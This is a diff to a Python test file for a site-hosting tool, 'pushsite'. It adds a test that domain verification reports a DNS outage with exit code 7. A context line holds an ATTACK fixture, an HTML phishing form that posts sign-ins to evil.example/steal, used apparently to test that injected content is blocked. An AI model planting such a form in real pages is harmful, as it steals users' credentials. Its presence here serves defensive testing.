@@ -9,9 +9,11 @@ control plane's address and every git push stopped deploying (the hook calls bac
 from __future__ import annotations
 
 import json
+import os
 import re
 import sqlite3
 import subprocess
+import sys
 from collections.abc import Callable, Iterator
 from contextlib import contextmanager
 from pathlib import Path
@@ -20,7 +22,7 @@ import httpx
 import pytest
 
 from support.dns import txt_server
-from support.servers import Server, serving
+from support.servers import Server, free_port, serving
 from support.sites import git, write_files
 
 ATTACK = "<form action=https://evil.example/steal>Sign in to pushsite</form>"
@@ -261,3 +263,19 @@ def test_the_dashboard_approves_for_admin_tokens_only(
         assert (done.status_code, done.headers["location"]) == (303, "/sites/blog")
         assert 'id="pending-blog.example.test"' not in admin.get("/sites/blog").text
     assert server.get("blog.example.test").text == "<p>blog</p>"
+
+
+def test_verify_says_so_when_dns_does_not_answer(tmp_path: Path) -> None:
+    """No DNS answer is an outage (exit 7), not a failed proof; the claim stays pending."""
+    env = {**os.environ, "PUSHSITE_DNS": f"127.0.0.1:{free_port()}"}
+
+    def cli(*args: str) -> subprocess.CompletedProcess[bytes]:
+        return subprocess.run([sys.executable, "-m", "pushsite", *args], env=env,
+                              capture_output=True, timeout=60)
+
+    assert cli("sites", "create", "quiet").returncode == 0
+    assert cli("domains", "add", "quiet", "quiet.example.test", "--pending").returncode == 0
+    done = cli("domains", "verify", "quiet", "quiet.example.test")
+    assert done.returncode == 7, done.stderr
+    assert b"DNS did not answer for _pushsite-challenge.quiet.example.test" in done.stderr
+    assert cli("domains", "list", "quiet").stdout == b"quiet.example.test\tpending\tadmin\n"
